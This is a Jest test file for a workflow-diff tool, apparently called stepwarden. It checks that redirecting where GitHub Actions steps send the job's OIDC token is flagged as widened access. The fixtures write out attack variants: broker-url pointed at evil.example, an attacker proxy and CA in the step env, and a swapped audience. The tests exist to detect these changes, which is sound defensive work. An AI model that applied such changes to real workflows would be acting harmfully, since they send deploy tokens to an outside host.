/**
 * Session 13: where stepwarden's own steps send the job's OIDC token is part of the job's access.
 * `actions/run`, `actions/exchange` and `actions/audit` post a fresh OIDC token to `broker-url`. A pull
 * request that points `broker-url` at a host of its author's, with `oidc-audience` kept at the real
 * broker's audience, has every default-branch run hand that host a token the real broker accepts: it
 * can pass the exchange through (the step gets its credential, no second claim shows in any audit)
 * and keep the credential. A proxy and a CA of the author's in the step's `env:` do the same. The
 * diff said "No access changes" (inputs of these steps were never part of the snapshot). Each such
 * change is now a widened row naming where the token goes.
 */
import { describe, expect, it } from '@jest/globals';
import { diffSnapshots } from '../../shared/diff/diff.js';
import { snapshot } from '../../shared/diff/snapshot.js';
import { failsOnWidened } from '../../shared/diff/states.js';
import { withCompositeActions } from '../../shared/workflow/composite.js';
import { wf } from '../support/repo.js';

const SW = 'stepwarden/stepwarden/actions';
const PIN = '@0123456789abcdef0123456789abcdef01234567';
const BROKER = 'https://broker.corp.example';

const workflow = (runWith: string, runEnv = '', auditWith = `broker-url: ${BROKER}`) => `on: push
permissions: { contents: read, id-token: write }
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - id: ship
        uses: ${SW}/run${PIN}
        with:
          audience: https://deploy.example
          run: make deploy
${runWith
  .split('\n')
  .map((l) => `          ${l}\n`)
  .join('')}${runEnv}      - if: always()
        uses: ${SW}/audit${PIN}
        with: { ${auditWith} }
`;
const BASE = workflow(`broker-url: ${BROKER}\noidc-audience: ${BROKER}`);

const rows = (base: string, head: string) => {
  const changes = diffSnapshots(snapshot([wf('deploy.yml', base)]), snapshot([wf('deploy.yml', head)]));
  return { changes, sink: changes.filter((c) => c.subject.startsWith('OIDC token')) };
};

describe("a change of where stepwarden's steps send the job's OIDC token is widened", () => {
  it.each([
    [
      'broker-url moved, audience kept',
      workflow(`broker-url: https://evil.example\noidc-audience: ${BROKER}`),
    ],
    ['oidc-audience changed', workflow(`broker-url: ${BROKER}\noidc-audience: sts.amazonaws.com`)],
    [
      'with: as one expression',
      workflow(`broker-url: ${BROKER}`).replace(
        / {8}with:\n( {10}.*\n)+/,
        '        with: ${{ fromJSON(vars.W) }}\n',
      ),
    ],
    [
      'a proxy and a CA in the step env',
      workflow(
        `broker-url: ${BROKER}\noidc-audience: ${BROKER}`,
        '        env: { HTTPS_PROXY: "http://evil.example:8080", NODE_EXTRA_CA_CERTS: /tmp/ca.pem }\n',
      ),
    ],
    [
      'the audit step’s broker-url',
      BASE.replace(`{ broker-url: ${BROKER} }`, '{ broker-url: https://evil.example }'),
    ],
  ])('%s', (_name, head) => {
    const { changes, sink } = rows(BASE, head);
    expect(sink.length).toBeGreaterThan(0);
    expect(sink.filter((c) => c.effect === 'widened').length).toBeGreaterThan(0);
    expect(failsOnWidened(changes)).toBe(true);
  });

  it('other inputs, and the same destination written in another order, change nothing here', () => {
    const head = workflow(`oidc-audience: ${BROKER}\nbroker-url: ${BROKER}\nscope: deploy`).replace(
      'make deploy',
      'make deploy-all',
    );
    expect(rows(BASE, head).changes).toEqual([]);
  });

  it('inside a local composite action too', async () => {
    const caller = `on: push
permissions: { contents: read, id-token: write }
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - id: outer
        uses: ./.github/actions/ship
`;
    const action = (url: string) =>
      `runs:\n  using: composite\n  steps:\n    - id: ship\n      uses: ${SW}/run${PIN}\n      with: { broker-url: ${url}, oidc-audience: ${BROKER}, audience: https://deploy.example, run: make }\n`;
    const read = (url: string) => async (dir: string) =>
      dir === '.github/actions/ship' ? { path: `${dir}/action.yml`, text: action(url) } : undefined;
    const a = await withCompositeActions([wf('deploy.yml', caller)], read(BROKER));
    const b = await withCompositeActions([wf('deploy.yml', caller)], read('https://evil.example'));
    const changes = diffSnapshots(snapshot(a), snapshot(b));
    expect(changes.filter((c) => c.subject.startsWith('OIDC token')).map((c) => c.effect)).toContain(
      'widened',
    );
  });
});
